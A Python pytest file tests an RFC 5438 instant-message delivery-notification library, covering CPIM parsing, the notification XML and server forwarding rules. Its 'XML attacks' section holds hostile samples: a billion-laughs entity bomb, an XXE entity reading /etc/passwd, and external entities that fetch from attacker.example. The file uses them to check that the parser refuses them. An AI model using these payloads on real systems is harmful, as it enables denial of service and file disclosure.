"""IMDN (RFC 5438): requests in CPIM, the message/imdn+xml document, and the
notifications a server may build and forward."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest

from sipim.cpim import IMDN_NAMESPACE, CPIMError, build_cpim, parse_cpim
from sipim.imdn import (
    IMDNError,
    IMDNNotification,
    build_imdn_xml,
    build_notification_cpim,
    imdn_record_routes,
    intermediary_may_notify,
    is_notification,
    message_id,
    new_message_id,
    next_notification_hop,
    notification_destination,
    original_to,
    parse_imdn_xml,
    parse_notification,
    requested_notifications,
    STATUSES,
)
from sipim.sip.uri import parse_uri

NOW = datetime(2024, 3, 1, 12, 0, tzinfo=timezone.utc)


def crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode()


# RFC 5438 §7.1.1.3.  The RFC prints it without the blank line RFC 3862 §2
# puts between the message headers and the content headers; it is added here.
IM_EXAMPLE = crlf(
    "From: Alice <im:alice@example.com>\n"
    "To: Bob <im:bob@example.com>\n"
    "NS: imdn <urn:ietf:params:imdn>\n"
    "imdn.Message-ID: 34jk324j\n"
    "DateTime: 2006-04-04T12:16:49-05:00\n"
    "imdn.Disposition-Notification: positive-delivery, negative-delivery\n"
    "\n"
    "Content-type: text/plain\n"
    "Content-length: 12\n"
    "\n"
    "Hello World\n"
)

DELIVERY_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<imdn xmlns="urn:ietf:params:xml:ns:imdn">\n'
    b"      <message-id>34jk324j</message-id>\n"
    b"      <datetime>2008-04-04T12:16:49-05:00</datetime>\n"
    b"     <recipient-uri>im:bob@example.com</recipient-uri>\n"
    b"      <original-recipient-uri\n"
    b"        >im:bob@example.com</original-recipient-uri>\n"
    b"      <delivery-notification>\n"
    b"         <status>\n"
    b"            <delivered/>\n"
    b"         </status>\n"
    b"      </delivery-notification>\n"
    b"    </imdn>\n"
)

# RFC 5438 §7.2.1.1, blank lines added as above.
DELIVERY_EXAMPLE = crlf(
    "From: Bob <im:bob@example.com>\n"
    "To: Alice <im:alice@example.com>\n"
    "NS: imdn <urn:ietf:params:imdn>\n"
    "imdn.Message-ID: d834jied93rf\n"
    "\n"
    "Content-type: message/imdn+xml\n"
    "Content-Disposition: notification\n"
    f"Content-length: {len(DELIVERY_XML)}\n"
    "\n"
) + DELIVERY_XML


def im(*headers: str, content_type: str = "text/plain") -> bytes:
    return crlf("".join(h + "\n" for h in headers) + f"\nContent-Type: {content_type}\n\n") + b"hi"


def stored_im(requests: str = "positive-delivery, negative-delivery, processing, display", *extra: str):
    return parse_cpim(im(
        "From: Alice <sip:alice@example.com>",
        "To: Bob <sip:bob@example.com>",
        "NS: imdn <urn:ietf:params:imdn>",
        "imdn.Message-ID: m-1",
        "DateTime: 2024-03-01T11:59:00Z",
        f"imdn.Disposition-Notification: {requests}",
        *extra,
    ))


# -- §6, §7.1.1: what the IM asks for --------------------------------------------


def test_rfc5438_7_1_1_3_example_requests_positive_and_negative_delivery():
    message = parse_cpim(IM_EXAMPLE)
    assert requested_notifications(message) == {"positive-delivery", "negative-delivery"}
    assert message_id(message) == "34jk324j"
    assert message.datetime_text == "2006-04-04T12:16:49-05:00"
    assert not is_notification(message)
    assert message.serialize() == IM_EXAMPLE


def test_rfc5438_examples_as_printed_lack_the_rfc3862_blank_line_and_are_refused():
    as_printed = IM_EXAMPLE.replace(b"negative-delivery\r\n\r\n", b"negative-delivery\r\n")
    with pytest.raises(CPIMError):
        parse_cpim(as_printed)


def test_rfc5438_6_1_any_prefix_for_the_imdn_namespace_is_accepted():
    message = parse_cpim(im(
        "NS: x <urn:ietf:params:imdn>", "x.Message-ID: abc", "x.Disposition-Notification: display"))
    assert message_id(message) == "abc"
    assert requested_notifications(message) == {"display"}


def test_rfc5438_6_1_imdn_prefix_without_declaration_means_nothing():
    message = parse_cpim(im("imdn.Message-ID: abc", "imdn.Disposition-Notification: display"))
    assert message_id(message) is None
    assert requested_notifications(message) == frozenset()


def test_rfc5438_7_1_1_3_absent_or_empty_header_requests_nothing():
    assert requested_notifications(parse_cpim(im("From: <im:a@example.com>"))) == frozenset()
    assert requested_notifications(parse_cpim(im(
        "NS: imdn <urn:ietf:params:imdn>", "imdn.Disposition-Notification: "))) == frozenset()


def test_rfc5438_10_values_params_several_headers_and_unknown_tokens():
    message = parse_cpim(im(
        "NS: imdn <urn:ietf:params:imdn>",
        "imdn.Disposition-Notification: positive-delivery ; x=1 ,display",
        "imdn.Disposition-Notification: future-kind",
    ))
    assert requested_notifications(message) == {"positive-delivery", "display", "future-kind"}


def test_rfc5438_10_values_are_case_sensitive():
    message = parse_cpim(im("NS: imdn <urn:ietf:params:imdn>", "imdn.Disposition-Notification: Display"))
    assert "display" not in requested_notifications(message)


def test_rfc5438_7_2_1_a_request_inside_an_imdn_is_ignored():
    message = parse_cpim(im(
        "NS: imdn <urn:ietf:params:imdn>", "imdn.Disposition-Notification: positive-delivery",
        content_type="message/imdn+xml"))
    assert is_notification(message)
    assert requested_notifications(message) == frozenset()


def test_rfc5438_6_4_6_5_original_to_and_record_routes():
    message = parse_cpim(im(
        "NS: imdn <urn:ietf:params:imdn>",
        "imdn.Original-To: List <sip:friends@lists.example.com>",
        "imdn.IMDN-Record-Route: <sip:second@example.com>",
        "imdn.IMDN-Record-Route: <sip:first@example.com>",
    ))
    assert str(original_to(message).uri) == "sip:friends@lists.example.com"
    assert [str(r.uri) for r in imdn_record_routes(message)] == ["sip:second@example.com", "sip:first@example.com"]
    assert notification_destination(message) == parse_uri("sip:second@example.com")


def test_rfc5438_7_2_1_without_record_route_the_imdn_goes_to_the_cpim_from():
    assert notification_destination(parse_cpim(IM_EXAMPLE)) == parse_uri("im:alice@example.com")


def test_rfc5438_6_3_new_message_ids_are_random_tokens_of_at_least_64_bits():
    ids = {new_message_id() for _ in range(100)}
    assert len(ids) == 100
    for value in ids:
        assert len(value) * 6 >= 64
        message = build_cpim("sip:a@example.com", "sip:b@example.com", None, "text/plain", b"",
                             extra_headers=[("imdn.Message-ID", value)])
        assert message_id(parse_cpim(message.serialize())) == value


# -- §9 identifying notifications ------------------------------------------------------


def test_rfc5438_9_7_2_1_1_delivery_example_is_a_notification():
    message = parse_cpim(DELIVERY_EXAMPLE)
    assert message.serialize() == DELIVERY_EXAMPLE
    assert is_notification(message)
    notification = parse_notification(message)
    assert notification == IMDNNotification(
        message_id="34jk324j",
        datetime="2008-04-04T12:16:49-05:00",
        kind="delivery",
        status="delivered",
        recipient_uri="im:bob@example.com",
        original_recipient_uri="im:bob@example.com",
    )
    assert message_id(message) == "d834jied93rf"  # the IMDN's own, not the IM's (§6.3)


def test_rfc5438_9_content_disposition_notification_alone_marks_an_imdn():
    message = parse_cpim(crlf("From: <im:a@example.com>\n\nContent-Type: multipart/mixed; boundary=b\n"
                              "Content-Disposition: notification\n\n") + b"--b--")
    assert is_notification(message)
    with pytest.raises(IMDNError):
        parse_notification(message)


# -- §11 the XML document ---------------------------------------------------------------


@pytest.mark.parametrize(
    "element, status",
    [("display-notification", "displayed"), ("processing-notification", "processed"),
     ("processing-notification", "stored"), ("delivery-notification", "failed")],
)
def test_rfc5438_11_1_rfc_example_documents_parse(element, status):
    document = DELIVERY_XML.replace(b"delivery-notification", element.encode()).replace(
        b"<delivered/>", f"<{status}/>".encode())
    notification = parse_imdn_xml(document)
    assert notification.kind == element.split("-")[0]
    assert notification.status == status
    assert notification.sent_at == datetime.fromisoformat("2008-04-04T12:16:49-05:00")


@pytest.mark.parametrize("kind", sorted(STATUSES))
def test_rfc5438_11_1_9_every_kind_and_status_round_trips(kind):
    for status in STATUSES[kind]:
        notification = IMDNNotification(
            message_id="a-b_c", datetime="2024-01-01T00:00:00Z", kind=kind, status=status,
            recipient_uri="sip:bob@example.com", original_recipient_uri="sip:list@example.com",
            subject="Lunch <today> & \"more\" \x01", subject_lang="en")
        parsed = parse_imdn_xml(build_imdn_xml(notification))
        assert parsed == IMDNNotification(**{**notification.__dict__, "subject": 'Lunch <today> & "more" \ufffd'})


def test_rfc5438_11_1_5_subject_keeps_its_language():
    document = DELIVERY_XML.replace(
        b"<delivery-notification>", b'<subject xml:lang="fr">Objet</subject><delivery-notification>')
    notification = parse_imdn_xml(document)
    assert (notification.subject, notification.subject_lang) == ("Objet", "fr")


def test_rfc5438_11_1_9_extension_elements_in_other_namespaces_are_ignored():
    document = DELIVERY_XML.replace(
        b"<delivered/>", b'<delivered/><x:why xmlns:x="urn:example:ext">because</x:why>').replace(
        b"</imdn>", b'<y:extra xmlns:y="urn:example:ext2"><y:z/></y:extra></imdn>')
    assert parse_imdn_xml(document).status == "delivered"


def test_rfc5438_11_1_datetime_object_is_written_as_rfc3339():
    notification = IMDNNotification(message_id="m", datetime=datetime(2024, 1, 2, 3, 4, 5, tzinfo=timezone.utc),
                                    kind="display", status="displayed")
    assert notification.datetime == "2024-01-02T03:04:05Z"


@pytest.mark.parametrize(
    "change, reason",
    [
        ((b"<delivered/>", b"<displayed/>"), "not allowed"),
        ((b"<delivered/>", b"<stored/>"), "not allowed"),
        ((b"<delivered/>", b""), "exactly one value"),
        ((b"<delivered/>", b"<delivered/><failed/>"), "exactly one value"),
        ((b"<message-id>34jk324j</message-id>", b""), "Missing <message-id>"),
        ((b"<datetime>2008-04-04T12:16:49-05:00</datetime>", b""), "Missing <datetime>"),
        ((b"<message-id>34jk324j</message-id>", b"<message-id>a</message-id><message-id>b</message-id>"),
         "More than one <message-id>"),
        ((b"<message-id>34jk324j</message-id>", b"<message-id></message-id>"), "Bad message-id"),
        ((b"<message-id>34jk324j</message-id>", b"<message-id>a<b/></message-id>"), "text only"),
        ((b"<delivery-notification>", b"<display-notification><status><displayed/></status>"
                                       b"</display-notification><delivery-notification>"), "More than one notification"),
        ((b"delivery-notification", b"unknown-notification"), "Missing notification"),
        ((b'xmlns="urn:ietf:params:xml:ns:imdn"', b'xmlns="urn:example:other"'), "Root element"),
        ((b"</imdn>", b""), "Malformed XML"),
    ],
)
def test_rfc5438_11_1_invalid_documents_are_refused(change, reason):
    with pytest.raises(IMDNError) as info:
        parse_imdn_xml(DELIVERY_XML.replace(*change))
    assert reason in info.value.reason


def test_oversize_imdn_document_is_refused():
    with pytest.raises(IMDNError, match="larger than"):
        parse_imdn_xml(DELIVERY_XML, max_size=100)


def test_rfc5438_11_1_notification_fields_are_validated():
    with pytest.raises(IMDNError):
        IMDNNotification(message_id="m", datetime="x", kind="display", status="stored")
    with pytest.raises(IMDNError):
        IMDNNotification(message_id="m", datetime="x", kind="read", status="displayed")
    with pytest.raises(IMDNError):
        IMDNNotification(message_id="has space", datetime="x", kind="display", status="displayed")


# -- XML attacks (RFC 5438 §14: IMDNs come from untrusted parties) ---------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<imdn xmlns="urn:ietf:params:xml:ns:imdn"><message-id>&lol9;</message-id>
<datetime>2008-04-04T12:16:49-05:00</datetime>
<delivery-notification><status><delivered/></status></delivery-notification></imdn>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE imdn [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<imdn xmlns="urn:ietf:params:xml:ns:imdn"><message-id>a</message-id>
<datetime>&xxe;</datetime>
<delivery-notification><status><delivered/></status></delivery-notification></imdn>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE imdn SYSTEM "http://attacker.example/evil.dtd">
<imdn xmlns="urn:ietf:params:xml:ns:imdn"><message-id>a</message-id>
<datetime>x</datetime><delivery-notification><status><delivered/></status></delivery-notification></imdn>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE imdn [ <!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote; ]>
<imdn xmlns="urn:ietf:params:xml:ns:imdn"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_xml_with_a_doctype_is_refused(document):
    with pytest.raises(IMDNError, match="DOCTYPE not allowed"):
        parse_imdn_xml(document)


def test_xml_undeclared_entity_reference_is_refused():
    with pytest.raises(IMDNError, match="Malformed XML"):
        parse_imdn_xml(DELIVERY_XML.replace(b"34jk324j", b"&xxe;"))


def test_xml_predefined_entities_still_work():
    assert parse_imdn_xml(DELIVERY_XML.replace(b"34jk324j", b"a&amp;b&#x41;")).message_id == "a&bA"


def test_xml_deep_nesting_is_refused():
    deep = b"<x:a xmlns:x='urn:e'>" * 50 + b"</x:a>" * 50
    with pytest.raises(IMDNError, match="nested too deeply"):
        parse_imdn_xml(DELIVERY_XML.replace(b"</imdn>", deep + b"</imdn>"))


# -- §7.2, §8: notifications a server builds --------------------------------------------


def test_rfc5438_8_1_stored_processing_notification_as_the_server_builds_it():
    original = stored_im(
        "processing, negative-delivery",
        "Subject:;lang=en lunch?",
    )
    built = build_notification_cpim(original, notifier_uri="sip:im.example.com", kind="processing",
                                    status="stored", now=NOW, message_id="n-1")
    wire = built.serialize()
    parsed = parse_cpim(wire)
    assert parsed == built
    # §7.2.1: To is the IM sender, From the notifier; a Message-ID of its own.
    assert parsed.header("urn:ietf:params:cpim-headers:", "To") == "Alice <sip:alice@example.com>"
    assert str(parsed.from_.uri) == "sip:im.example.com"
    assert message_id(parsed) == "n-1"
    assert parsed.datetime == NOW
    # §7.2.1: no notification may be requested for a notification.
    assert parsed.headers_in(IMDN_NAMESPACE, "Disposition-Notification") == []
    assert parsed.content_type == "message/imdn+xml"
    assert parsed.content_disposition == "notification"
    assert parsed.content_header("Content-Length") == str(len(parsed.body))
    assert is_notification(parsed)
    assert parse_notification(parsed) == IMDNNotification(
        message_id="m-1", datetime="2024-03-01T11:59:00Z", kind="processing", status="stored",
        recipient_uri="sip:bob@example.com", original_recipient_uri="sip:bob@example.com",
        subject="lunch?", subject_lang="en")


def test_rfc5438_7_2_1_the_sender_address_is_copied_byte_for_byte():
    original = parse_cpim(im(
        'From: "Alice \\"A\\" Liddell"<im:alice@example.com>', "NS: imdn <urn:ietf:params:imdn>",
        "imdn.Message-ID: m", "DateTime: 2024-03-01T11:59:00Z"))
    built = build_notification_cpim(original, notifier_uri="sip:im.example.com", kind="delivery",
                                    status="failed", now=NOW)
    assert b'\r\nTo: "Alice \\"A\\" Liddell"<im:alice@example.com>\r\n' in built.serialize()
    assert message_id(built) not in (None, "m")


def test_rfc5438_7_2_1_record_routes_become_imdn_routes_in_order_and_original_to_is_reported():
    original = stored_im(
        "negative-delivery",
        "imdn.Original-To: <sip:friends@lists.example.com>",
        "imdn.IMDN-Record-Route: <sip:b@example.com>",
        "imdn.IMDN-Record-Route: <sip:a@example.com>",
    )
    built = build_notification_cpim(original, notifier_uri="sip:im.example.com", kind="delivery",
                                    status="failed", now=NOW)
    assert [h.value for h in built.headers_in(IMDN_NAMESPACE, "IMDN-Route")] == [
        "<sip:b@example.com>", "<sip:a@example.com>"]
    assert built.headers_in(IMDN_NAMESPACE, "IMDN-Record-Route") == []
    notification = parse_notification(built)
    assert notification.original_recipient_uri == "sip:friends@lists.example.com"
    assert notification.recipient_uri == "sip:bob@example.com"


def test_rfc5438_7_2_1_no_imdn_for_an_imdn():
    with pytest.raises(IMDNError, match="No IMDN"):
        build_notification_cpim(parse_cpim(DELIVERY_EXAMPLE), notifier_uri="sip:im.example.com",
                                kind="delivery", status="failed", now=NOW)


def test_rfc5438_11_1_an_im_without_message_id_or_datetime_cannot_be_answered():
    without_id = parse_cpim(im("From: <sip:a@example.com>", "DateTime: 2024-03-01T11:59:00Z"))
    without_date = parse_cpim(im("From: <sip:a@example.com>", "NS: imdn <urn:ietf:params:imdn>",
                                 "imdn.Message-ID: m"))
    for original in (without_id, without_date):
        with pytest.raises(IMDNError):
            build_notification_cpim(original, notifier_uri="sip:im.example.com", kind="processing",
                                    status="stored", now=NOW)
        assert not intermediary_may_notify(original, "processing", "stored")


def test_build_notification_refuses_a_status_the_kind_does_not_have():
    with pytest.raises(IMDNError):
        build_notification_cpim(stored_im(), notifier_uri="sip:im.example.com", kind="display",
                                status="stored", now=NOW)


# -- what an intermediary (store-and-forward server) may send ------------------------


def test_rfc5438_8_1_stored_needs_a_processing_request():
    assert intermediary_may_notify(stored_im("processing"), "processing", "stored")
    assert not intermediary_may_notify(stored_im("positive-delivery, negative-delivery"), "processing", "stored")


def test_rfc5438_8_1_only_one_processing_notification_per_im():
    original = stored_im("processing")
    assert intermediary_may_notify(original, "processing", "processed")
    assert not intermediary_may_notify(original, "processing", "stored", already_sent={"processing"})


def test_rfc5438_8_2_failed_needs_a_negative_delivery_request_and_is_sent_once():
    assert intermediary_may_notify(stored_im("negative-delivery"), "delivery", "failed")
    assert not intermediary_may_notify(stored_im("positive-delivery"), "delivery", "failed")
    assert not intermediary_may_notify(stored_im("negative-delivery"), "delivery", "failed",
                                       already_sent={"delivery"})
    # "stored" then "failed" are different disposition types: both allowed
    assert intermediary_may_notify(stored_im("processing, negative-delivery"), "delivery", "failed",
                                   already_sent={"processing"})


def test_rfc5438_12_2_an_intermediary_never_claims_delivered_or_displayed():
    original = stored_im()
    assert not intermediary_may_notify(original, "delivery", "delivered")
    assert not intermediary_may_notify(original, "display", "displayed")
    assert not intermediary_may_notify(original, "display", "forbidden")


def test_rfc5438_12_1_3_1_no_notification_after_a_non_2xx_answer():
    assert not intermediary_may_notify(stored_im(), "delivery", "failed", answered_with_2xx=False)
    assert not intermediary_may_notify(stored_im(), "processing", "stored", answered_with_2xx=False)


def test_rfc5438_5_1_forbidden_delivery_when_any_delivery_notification_was_asked():
    assert intermediary_may_notify(stored_im("positive-delivery"), "delivery", "forbidden")
    assert not intermediary_may_notify(stored_im("display"), "delivery", "forbidden")


def test_rfc5438_7_2_1_never_for_a_notification():
    assert not intermediary_may_notify(parse_cpim(DELIVERY_EXAMPLE), "delivery", "failed")


# -- §8: forwarding recipients' notifications back ---------------------------------------


def test_rfc5438_8_imdn_without_routes_goes_to_the_cpim_to_untouched():
    message = parse_cpim(DELIVERY_EXAMPLE)
    destination, forwarded = next_notification_hop(message)
    assert destination == parse_uri("im:alice@example.com")
    assert forwarded.serialize() == DELIVERY_EXAMPLE


def test_rfc5438_8_own_top_imdn_route_is_removed_and_the_next_one_is_used():
    original = stored_im("negative-delivery",
                         "imdn.IMDN-Record-Route: <sip:im.example.com>",
                         "imdn.IMDN-Record-Route: <sip:edge.example.com>")
    imdn = parse_cpim(build_notification_cpim(original, notifier_uri="sip:bob@example.com",
                                              kind="delivery", status="failed", now=NOW).serialize())
    own = parse_uri("sip:im.example.com")
    destination, forwarded = next_notification_hop(imdn, is_own_address=lambda uri: uri == own)
    assert destination == parse_uri("sip:edge.example.com")
    assert [h.value for h in forwarded.headers_in(IMDN_NAMESPACE, "IMDN-Route")] == ["<sip:edge.example.com>"]
    destination, last = next_notification_hop(forwarded, is_own_address=lambda uri: str(uri) == "sip:edge.example.com")
    assert destination == parse_uri("sip:alice@example.com")
    assert last.headers_in(IMDN_NAMESPACE, "IMDN-Route") == []
    # somebody else's route on top: sent there, message untouched
    destination, same = next_notification_hop(imdn)
    assert destination == own and same is imdn


def test_build_notification_needs_an_aware_now():
    with pytest.raises(IMDNError):
        build_notification_cpim(stored_im(), notifier_uri="sip:im.example.com", kind="processing",
                                status="stored", now=datetime(2024, 1, 1))
